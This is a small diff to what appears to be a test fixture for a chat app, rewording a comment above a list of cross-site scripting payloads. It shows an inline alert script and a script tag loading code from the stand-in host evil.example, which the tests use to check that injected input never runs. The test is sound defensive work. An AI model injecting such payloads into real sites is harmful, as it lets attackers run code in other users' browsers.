@@ -1,4 +1,4 @@
-// What an attacker may send as a name, a room, a topic or a message. Whatever runs calls `alert`, which the tests notice.
+// Hostile names, rooms, topics and messages. Code that runs calls `alert`, which the tests notice.
 export const PAYLOADS = [
 	"<script>alert(1)</script>",
 	"<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
